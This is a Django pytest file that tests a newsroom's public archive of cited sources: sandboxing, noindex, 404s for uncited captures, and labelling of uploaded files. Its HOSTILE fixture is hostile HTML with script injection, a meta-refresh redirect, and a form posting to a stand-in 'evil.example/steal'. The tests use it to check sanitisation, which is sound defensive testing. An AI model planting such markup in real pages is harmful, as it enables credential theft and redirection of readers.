"""The public archived copy of a source: sandboxed, not indexed, dated."""

import pytest
from django.urls import reverse

from articles import workflow as articles_workflow
from articles.models import Rating
from sources import workflow
from sources.models import Capture, SourceState, Watch
from tests.factories import (
    ArticleFactory,
    CitationFactory,
    ClaimFactory,
    EntityFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = (
    b"<html><head><title>Captured</title><script>document.title='pwned'</script>"
    b"<base href='https://evil.example/'>"
    b'<meta http-equiv="Refresh" content="0; url=https://evil.example/">'
    b"</head><body><h1>The report</h1>"
    b"<form action='https://evil.example/steal'><input name=p></form>"
    b"<img src='https://tracker.example/pixel.gif'></body></html>"
)


def cite(source, people):
    """Publish an article whose one rated claim cites ``source``."""
    article = ArticleFactory()
    claim = ClaimFactory(
        article=article,
        claimant=EntityFactory(name=f"Claimant of {source.pk}"),
        tagged_by=people["reporter"],
    )
    CitationFactory(claim=claim, source=source)
    articles_workflow.rate_claim(
        claim, user=people["checker"], rating=Rating.ACCURATE, explanation="Checked."
    )
    articles_workflow.publish(article, user=people["publisher"])
    return article


@pytest.fixture
def captured(media, people):
    """A captured source that a published article cites (its archive is public)."""
    source = SourceFactory(url="https://example.org/report")
    capture = workflow.store_file(
        source,
        data=HOSTILE,
        name="report.html",
        content_type="text/html; charset=utf-8",
        origin=Capture.Origin.FILE,
    )
    cite(source, people)
    return source, capture


def test_the_archive_is_sandboxed_and_not_indexed(client, captured):
    source, capture = captured
    response = client.get(reverse("sources:archive", args=[source.pk]))
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert csp.startswith("sandbox;")
    assert "default-src 'none'" in csp
    assert "script-src" not in csp  # default-src 'none': no script at all
    assert "form-action 'none'" in csp
    assert "noindex" in response["X-Robots-Tag"]
    html = response.content.decode()
    assert "Archived copy" in html
    assert capture.captured_at.strftime("%Y-%m-%d %H:%M") in html
    assert 'href="https://example.org/report"' in html
    assert "<h1>The report</h1>" in html
    assert 'evil.example/"' not in html  # the refresh is gone
    assert "http-equiv" not in html.lower()


def test_a_pdf_capture_is_a_download(client, media, people):
    source = SourceFactory(url="")
    workflow.store_file(
        source, data=b"%PDF-1.4 x", name="letter.pdf", origin=Capture.Origin.UPLOADED
    )
    cite(source, people)
    response = client.get(reverse("sources:archive", args=[source.pk]))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content == b"%PDF-1.4 x"
    assert response["Content-Security-Policy"].startswith("sandbox;")


@pytest.mark.parametrize("query", ["?capture=abc", "?capture=0", "?capture=99999999"])
def test_bad_capture_numbers_are_404(client, captured, query):
    source, _ = captured
    response = client.get(reverse("sources:archive", args=[source.pk]) + query)
    assert response.status_code == 404


def test_no_capture_yet_is_404(client, media):
    source = SourceFactory()
    assert client.get(reverse("sources:archive", args=[source.pk])).status_code == 404


def test_the_source_page_links_the_original_and_our_copy(client, captured):
    source, capture = captured
    page = client.get(source.get_absolute_url()).content.decode()
    assert reverse("sources:archive", args=[source.pk]) in page
    assert 'href="https://example.org/report"' in page
    assert "The original is gone" not in page


def test_a_gone_source_says_so(client, captured):
    source, capture = captured
    Watch.objects.create(
        source=source, state=SourceState.GONE, since=capture.captured_at
    )
    workflow.alert_ratings(source, "the source is gone")  # bumps the public pages
    page = client.get(source.get_absolute_url()).content.decode()
    assert "The original is gone" in page
    archive = client.get(reverse("sources:archive", args=[source.pk])).content.decode()
    assert "The original is gone." in archive


# Public only while a published article cites it ---------------------------------


def test_the_archive_of_a_source_no_published_article_cites_is_404(
    client, media, people, django_assert_max_num_queries
):
    source = SourceFactory(url="")
    workflow.store_file(
        source,
        data=b"%PDF-1.4 the leaked memo",
        name="memo.pdf",
        origin=Capture.Origin.UPLOADED,
    )
    archive = reverse("sources:archive", args=[source.pk])
    response = client.get(archive)
    assert response.status_code == 404
    assert b"leaked memo" not in response.content
    # Nor any one capture of it by number.
    capture = source.captures.get()
    assert client.get(f"{archive}?capture={capture.pk}").status_code == 404
    # An article that cites it but is not published yet changes nothing.
    draft = ClaimFactory(tagged_by=people["reporter"])
    CitationFactory(claim=draft, source=source)
    assert client.get(archive).status_code == 404
    # The source's public page does not link a copy readers cannot open.
    assert archive not in client.get(source.get_absolute_url()).content.decode()
    # Staff who may view captures still see it (the admin links it), kept
    # out of shared caches.
    client.force_login(people["reporter"])
    response = client.get(archive)
    assert response.status_code == 200
    assert response.content == b"%PDF-1.4 the leaked memo"
    assert response["Cache-Control"] == "private, no-store"
    client.logout()
    # Once a published article cites it, readers see it; asking costs a
    # bounded number of queries (the source, whether it is cited, a capture,
    # whether it is gone).
    cite(source, people)
    with django_assert_max_num_queries(4):
        response = client.get(archive)
    assert response.status_code == 200
    assert response.content == b"%PDF-1.4 the leaked memo"
    assert response["Cache-Control"].startswith("public")
    assert archive in client.get(source.get_absolute_url()).content.decode()


def test_the_archive_goes_when_the_article_citing_it_is_withdrawn(client, captured):
    from articles.models import Article

    source, _capture = captured
    archive = reverse("sources:archive", args=[source.pk])
    assert client.get(archive).status_code == 200
    Article.objects.filter(live_version__isnull=False).update(live_version=None)
    assert client.get(archive).status_code == 404


# A file the newsroom was given is labelled as such ------------------------------


def test_an_uploaded_file_is_never_shown_as_our_copy_of_the_address(
    client, captured, people
):
    source, fetched = captured
    uploaded = workflow.upload(
        source,
        data=b"<title>Given</title><h1>A different report</h1>",
        name="given.html",
        content_type="text/html",
        user=people["checker"],
    )
    assert uploaded.captured_at > fetched.captured_at
    assert uploaded.final_url == f"urn:newsroom:source:{source.pk}:given.html"
    archive = reverse("sources:archive", args=[source.pk])
    # Our copy stays what the address served, though the upload is newer.
    ours = client.get(archive).content.decode()
    assert "<strong>Archived copy</strong> of" in ours
    assert "<h1>The report</h1>" in ours
    assert "A different report" not in ours
    # The uploaded file, opened by its number, says what it is and when.
    given = client.get(f"{archive}?capture={uploaded.pk}").content.decode()
    assert "A different report" in given
    assert "Archived copy" not in given
    assert "<strong>A file the newsroom was given</strong>, uploaded" in given
    assert uploaded.captured_at.strftime("%Y-%m-%d %H:%M") in given
    assert "It is not a copy we took of" in given
    # The source's page lists it apart, labelled.
    page = client.get(source.get_absolute_url()).content.decode()
    assert "<dt>Our archived copy</dt>" in page
    assert "<dt>A file the newsroom was given</dt>" in page
    assert f"{archive}?capture={uploaded.pk}" in page


def test_a_source_without_an_address_shows_its_file_as_given(client, media, people):
    source = SourceFactory(url="", title="The memo")
    uploaded = workflow.upload(
        source,
        data=b"<p>Memo text</p>",
        name="memo.html",
        content_type="text/html",
        user=people["publisher"],
    )
    cite(source, people)
    page = client.get(reverse("sources:archive", args=[source.pk])).content.decode()
    assert "Memo text" in page
    assert "Archived copy" not in page
    assert "<strong>A file the newsroom was given</strong>, uploaded" in page
    assert uploaded.captured_at.strftime("%Y-%m-%d %H:%M") in page
